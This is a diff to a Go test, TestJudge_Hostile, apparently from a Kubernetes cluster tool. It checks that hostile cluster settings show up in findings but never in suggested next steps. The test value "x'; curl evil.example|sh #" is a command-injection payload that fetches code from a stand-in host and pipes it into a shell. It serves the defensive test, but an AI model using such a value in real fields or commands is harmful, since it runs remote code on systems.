@@ -13,6 +13,7 @@ import (
 	"k8s.io/client-go/kubernetes"
 	"k8s.io/client-go/rest"
 
+	"github.com/ccmadm/ccmadm/api/finding"
 	"github.com/ccmadm/ccmadm/api/v1alpha1"
 )
 
@@ -250,10 +251,14 @@ func TestJudge_Hostile(t *testing.T) {
 	const evil = "x'; curl evil.example|sh #"
 	c := newCluster()
 	c.Domain, c.Zones, c.KubeletDomain, c.InfoServer, c.Endpoint, c.ProxyServer = evil, "a b", evil, evil, "10.0.0.1", evil
-	for _, f := range Judge(*c) {
+	found := Judge(*c)
+	for _, f := range found {
 		if strings.Contains(f.Next, "evil") {
 			t.Errorf("%s: next: %s", f.Object, f.Next)
 		}
+	}
+	if !slices.ContainsFunc(found, func(f finding.Finding) bool { return strings.Contains(f.Message, "evil") }) {
+		t.Errorf("the values are in no finding: %+v", found)
 	}
 }
 
